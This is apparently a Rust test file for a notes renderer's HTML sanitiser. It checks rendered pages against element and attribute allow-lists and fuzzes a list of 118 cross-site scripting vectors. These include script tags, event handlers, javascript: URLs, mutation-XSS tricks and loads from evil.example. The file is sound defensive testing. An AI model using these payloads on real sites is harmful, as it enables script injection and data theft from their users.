//! What no note can do to a page: run a script, load from another host, stand in for the page's own
//! elements. Every vector is rendered, and the page is read as a browser's tokeniser reads it.

use std::cell::RefCell;

use html5ever::{
    tendril::StrTendril,
    tokenizer::{
        BufferQueue, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
    },
};
use proptest::prelude::*;

use super::{World, html};

const ELEMENTS: [&str; 99] = [
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "audio",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "caption",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "img",
    "input",
    "ins",
    "kbd",
    "li",
    "mark",
    "ol",
    "p",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "span",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
    "math",
    "merror",
    "mfrac",
    "mi",
    "mmultiscripts",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mprescripts",
    "mroot",
    "mrow",
    "ms",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
];

const ATTRIBUTES: [&str; 43] = [
    "align",
    "alt",
    "alttext",
    "checked",
    "class",
    "colspan",
    "controls",
    "datetime",
    "depth",
    "dir",
    "disabled",
    "display",
    "displaystyle",
    "height",
    "href",
    "id",
    "lang",
    "largeop",
    "linethickness",
    "loading",
    "mathbackground",
    "mathcolor",
    "mathvariant",
    "movablelimits",
    "open",
    "preload",
    "rel",
    "reversed",
    "role",
    "rowspan",
    "scope",
    "scriptlevel",
    "span",
    "src",
    "start",
    "stretchy",
    "symmetric",
    "tabindex",
    "title",
    "type",
    "value",
    "width",
    "accent",
];

/// Reads a page's tags.
#[derive(Default)]
struct Tags(RefCell<Vec<html5ever::tokenizer::Tag>>);

impl TokenSink for Tags {
    type Handle = ();

    fn process_token(&self, token: Token, _: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.0.borrow_mut().push(tag),
            Token::CommentToken(text) => panic!("a comment: {text}"),
            Token::DoctypeToken(_) => panic!("a doctype"),
            _ => {}
        }
        TokenSinkResult::Continue
    }
}

fn tags(html: &str) -> Vec<html5ever::tokenizer::Tag> {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from_slice(html));
    let tokenizer = Tokenizer::new(Tags::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink.0.into_inner()
}

/// Panics where a page holds anything that acts, loads or is unknown. Names the note's text.
#[track_caller]
fn inspect(html: &str, markdown: &str) {
    for tag in tags(html) {
        let name = &*tag.name;
        assert!(ELEMENTS.contains(&name), "<{name}> in {html}\nof {markdown}");
        if tag.kind == TagKind::EndTag {
            continue;
        }
        for attribute in &tag.attrs {
            let (key, value) = (&*attribute.name.local, &*attribute.value);
            let known =
                ATTRIBUTES.contains(&key) || key.starts_with("data-") || key.starts_with("aria-");
            assert!(known && !key.starts_with("on"), "{key} in {html}\nof {markdown}");
            let legal = match key {
                "href" => is_address(value),
                "src" => value.starts_with("/file/"),
                "type" => name == "ol" || value == "checkbox",
                _ => true,
            };
            assert!(legal, "{key}={value} in {html}\nof {markdown}");
        }
        let foreign = |attribute: &html5ever::Attribute| {
            &*attribute.name.local == "href" && attribute.value.starts_with("http")
        };
        if tag.attrs.iter().any(foreign) {
            let rel = tag.attrs.iter().find(|attribute| &*attribute.name.local == "rel");
            assert!(rel.is_some_and(|rel| rel.value.contains("noopener")), "rel in {html}");
        }
    }
}

fn is_address(value: &str) -> bool {
    let own = ["/note/", "/paper/", "/file/", "/search?q=", "#"];
    let foreign = ["http://", "https://", "mailto:", "tel:", "zotero:"];
    let lower = value.to_ascii_lowercase();
    value.is_empty()
        || own.iter().any(|start| value.starts_with(start))
        || foreign.iter().any(|start| lower.starts_with(start))
}

const VECTORS: [&str; 118] = [
    // Raw HTML.
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "text <script>alert(1)</script> text",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<img/src=x/onerror=alert(1)>",
    "<img src=\"img/pic ture.png\" onload=\"alert(1)\">",
    "<img src='https://evil.example/pixel.gif'>",
    "<img srcset='https://evil.example/pixel.gif 1x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>",
    "<img src=//evil.example/x>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><maction actiontype='statusline#http://x' xlink:href='javascript:alert(1)'>x</maction></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<form action='https://evil.example'><input name=q><button>b</button></form>",
    "<button formaction='javascript:alert(1)'>b</button>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)//\">",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='https://evil.example/'>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=https://evil.example/x.mp3 autoplay></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<div style='background:url(https://evil.example/x)'>x</div>",
    "<p style=\"position:fixed;inset:0\">cover</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java&#115;cript:alert(1)'>x</a>",
    "<a href='java&#x09;script:alert(1)'>x</a>",
    "<a href='&#1;javascript:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href=x onclick=alert(1) onclick=alert(2)>x</a>",
    "<a href=\"x\"onmouseover=\"alert(1)\">x</a>",
    "<a\u{c}href=javascript:alert(1)>x</a>",
    "<a href='https://evil.example' target=_blank ping='https://evil.example/p'>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?><img src=x onerror=alert(1)>",
    "</p><img src=x onerror=alert(1)>",
    "<table><td><script>alert(1)</script></td></table>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    "<p title=\"`><img src=x onerror=alert(1)>\">x</p>",
    "<p =\"><img src=x onerror=alert(1)>\">x</p>",
    "<x-foo onclick=alert(1)>x</x-foo>",
    "<span data-slot=\"0\"></span> $x$",
    "<div aria-label=x data-graph='{}' role=button tabindex=0>x</div>",
    // Markdown links and images.
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](https://a.example/\"onmouseover=\"alert(1))",
    "[x](a.md \"t\\\" onmouseover=alert(1) \\\"\")",
    "[x][r]\n\n[r]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x\" onerror=\"alert(1)](img/pic%20ture.png)",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![x](https://evil.example/pixel.gif)",
    // Wikilinks, embeds, tags, fields.
    "[[x\"onmouseover=\"alert(1)]]",
    "[[<img src=x onerror=alert(1)>]]",
    "[[Here|<img src=x onerror=alert(1)>]]",
    "[[javascript:alert(1)]]",
    "[[Here#<img src=x onerror=alert(1)>]]",
    "[[Here#^\"><img src=x onerror=alert(1)>]]",
    "![[img/pic ture.png|\"onload=\"alert(1)]]",
    "![[film.mp4#\"onload=\"alert(1)]]",
    "![[doc.pdf#page=\"><script>alert(1)</script>]]",
    "#tag\"onclick=alert(1) #<b>",
    "<b>key</b>:: <img src=x onerror=alert(1)>",
    "[key\":: \"><script>alert(1)</script>]",
    "x\" onmouseover=alert(1):: [[Here]] — <script>alert(1)</script>",
    "- supports:: [[Here]] — <img src=x onerror=alert(1)>",
    "text ^id\"onclick=alert(1)",
    // Headings, callouts, footnotes.
    "# <img src=x onerror=alert(1)>",
    "# \"><script>alert(1)</script>",
    "# x {#y onclick=alert(1)}",
    "> [!note\" onclick=\"alert(1)]\n> x",
    "> [!<script>]- <script>alert(1)</script>\n> x",
    "x[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: y",
    "x^[<script>alert(1)</script>]",
    "- [\"] x\n- [<] y\n- [>] z",
    // Formulas, diagrams, code.
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "$\\operatorname{<img src=x onerror=alert(1)>}$",
    "$$\\href{javascript:alert(1)}{x} \\color{red\" onclick=\"alert(1)}{y}$$",
    "$\\nope\"><script>alert(1)</script>$",
    "```mermaid\ngraph LR\nA[</pre><script>alert(1)</script>] --> B\nclick A \"javascript:alert(1)\"\n```",
    "```\"><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```",
    "```html\n</code></pre><script>alert(1)</script>\n```",
];

#[test]
fn no_vector_acts() {
    for vector in VECTORS {
        inspect(&html(vector), vector);
        // In a list, a quote, a table, a callout, an embed, behind an open element.
        for around in [
            "- @",
            "> @",
            "| a |\n|---|\n| @ |",
            "> [!tip] @\n> @",
            "<div>\n\n@",
            "a <b> @",
            "# @",
            "[^1]\n\n[^1]: @",
        ] {
            let markdown = around.replace('@', vector);
            inspect(&html(&markdown), &markdown);
        }
        let world = World::of(&[("a.md", "![[b]]"), ("b.md", vector)]);
        inspect(&world.render("a.md").html, vector);
    }
}

#[test]
fn names_and_properties_of_notes_do_not_act() {
    let bad = "x\" onload=\"alert(1)";
    let name = format!("{bad}.md");
    let evil = "\"><img src=x onerror=alert(1)>";
    let title = format!("---\ntitle: '{evil}'\ntype: '{evil}'\n---\n# {evil}\n{evil}");
    let world = World::of(&[("a.md", &format!("[[{bad}]] ![[{bad}]]")), (&name, &title)]);
    let page = world.render("a.md").html;
    assert!(page.contains("<section class=\"embed\""), "{page}");
    inspect(&page, &title);
    inspect(&world.render(&name).html, &title);
}

#[test]
fn what_a_note_may_write_by_hand_stays() {
    let page = html(
        "<details><summary>s</summary><p align=\"center\">a <kbd>K</kbd><br>b<sub>2</sub></p></details>",
    );
    assert_eq!(
        page.trim_end(),
        "<details><summary>s</summary><p align=\"center\">a <kbd>K</kbd><br>b<sub>2</sub></p></details>"
    );
}

#[test]
fn ids_of_raw_html_cannot_stand_in_for_the_pages() {
    for id in ["text", "main", "graph-data", "createElement", "fn-1"] {
        let markdown =
            format!("<a id=\"{id}\" name=\"{id}\">x</a> <div id='{id}'>y</div>\n\n<p name={id}>z");
        for tag in tags(&html(&markdown)) {
            for attribute in &tag.attrs {
                assert_ne!(&*attribute.name.local, "name");
                if &*attribute.name.local == "id" {
                    assert_eq!(&*attribute.value, format!("user-{id}"));
                }
            }
        }
    }
}

#[test]
fn classes_of_raw_html_are_few() {
    let page =
        html("<div class=\"callout center footnotes\">x</div> <span class=\"relation\">y</span>");
    assert!(page.contains("<div class=\"center\">x</div>"), "{page}");
    assert!(!page.contains("relation") && !page.contains("callout"), "{page}");
}

#[test]
fn nothing_is_loaded_from_other_hosts() {
    let page = html(
        "![cat](https://example.org/cat.png) <img src=\"http://example.org/dog.png\" alt=\"dog\">",
    );
    assert!(page.contains(">cat (picture on example.org)</a>"), "{page}");
    assert!(page.contains(">dog (picture on example.org)</a>"), "{page}");
    assert!(!page.contains("<img"), "{page}");
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 400, ..ProptestConfig::default() })]

    /// Vectors cut into pieces and put together at random.
    #[test]
    fn no_mixture_acts(pieces in prop::collection::vec((0..VECTORS.len(), 0.0..1.0, 0.0..1.0), 1..8)) {
        let mut markdown = String::new();
        for (vector, from, to) in pieces {
            let text: Vec<char> = VECTORS[vector].chars().collect();
            let place = |part: f64| (part * text.len() as f64) as usize;
            let (from, to) = (place(f64::min(from, to)), place(f64::max(from, to)));
            markdown.extend(&text[from..to]);
        }
        inspect(&html(&markdown), &markdown);
    }
}
